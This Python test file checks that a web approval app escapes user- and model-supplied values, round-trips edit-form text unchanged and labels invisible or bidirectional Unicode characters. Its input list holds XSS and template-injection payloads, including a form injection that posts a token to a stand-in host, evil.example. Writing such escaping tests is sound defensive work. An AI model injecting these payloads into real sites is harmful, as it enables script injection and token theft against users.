"""Whatever a model, a tool or a person wrote is text on the page, and nothing in it hides."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from markupsafe import escape

from interlock.web.legible import visible
from tests.web.site import Site, fill, say

STRINGS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</pre><form action=https://evil.example><input name=token>",
    "{{ 7 * 7 }} {% for x in y %} ${7*7} #{7*7}",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--", "]]>", "\u2028<b>", "<scr\u0000ipt>",
]  # fmt: skip


class Tags(HTMLParser):
    """The tags and attributes of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, tuple(name for name, _ in attrs)))


def tags(page: str) -> list[tuple[str, tuple[str, ...]]]:
    parser = Tags()
    parser.feed(page)
    return parser.seen


def test_a_value_adds_no_tag_to_a_page(site: Site) -> None:
    """In an argument, the title, a comment and the answer: the page has the tags it has for plain text."""
    browser, program = site.browser("finn"), site.program("fay")

    def page(text: str) -> str:
        run = site.asked(to=text, amount=2000)
        told = say(program, run, comment=text)
        if visible(text) != text:  # an answer with such characters has no plain meaning
            assert told.status_code == 409
            told = say(program, run)
        assert told.status_code == 200
        return browser.get(f"/approvals/{run.asked.id}").text.partition("<main")[2]  # beside it the queue grows

    plain, hiding = tags(page("anna")), tags(page("an\u2028na"))
    for text in STRINGS:
        told = page(text)
        assert tags(told) == (plain if visible(text) == text else hiding), text
        places = 1 + (visible(text) == text)  # the argument, and the comment where it was taken
        assert told.count(str(escape(visible(text)))) >= places, text
    listed = browser.get("/queue/list").text
    rows = [tag for tag, _ in tags(listed)]
    assert rows.count("li") == len(STRINGS) + 2
    assert set(rows) == {"div", "form", "ul", "li", "a", "span"}


def test_a_value_goes_through_the_edit_form_unchanged(site: Site) -> None:
    """What the form shows is what stands, so that an edit of one argument leaves the others letter by letter."""
    text = "\n  <b>&amp; \u202eline</b>\r\nsecond"
    run = site.asked(to=text)
    page = site.browser("fay").get(f"/approvals/{run.asked.id}").text
    (area,) = re.findall(r'<textarea id="change-to"[^>]*>\n(.*?)</textarea>', page, re.DOTALL)
    typed = html.unescape(area).replace("\r\n", "\n")
    assert fill(site.browser("fay"), run, "edit", **{"change.to": typed, "change.amount": "20"}).status_code == 303
    site.settled()
    assert run.asked.request["arguments"] == {"to": text, "amount": 20}


def test_a_hostile_error_is_text_too(site: Site) -> None:
    """What a request sent comes back escaped in the page that refuses it."""
    run = site.asked()
    answer = fill(site.browser("fay"), run, "edit", **{"change.<script>alert(1)</script>": "x"})
    assert answer.status_code == 409
    assert not any(tag == "script" and "src" not in names for tag, names in tags(answer.text))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in answer.text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("pay \u202e000,1", "pay [U+202E]000,1"),
        ("an\u200bna", "an[U+200B]na"),
        ("a\x1b[2Jb", "a[U+001B][2Jb"),
        ("a\u2066b\ue000", "a[U+2066]b[U+E000]"),
        ("Gr\u00fc\u00dfe\n\tan Anna \u2014 \u20ac", "Gr\u00fc\u00dfe\n\tan Anna \u2014 \u20ac"),
        ({"a": [1, "\u202e"]}, '{\n  "a": [\n    1,\n    "[U+202E]"\n  ]\n}'),
    ],
)
def test_nothing_in_a_value_hides(text: object, shown: str) -> None:
    """Characters that reorder, or show nothing, are named; letters of every language stay."""
    assert visible(text) == shown
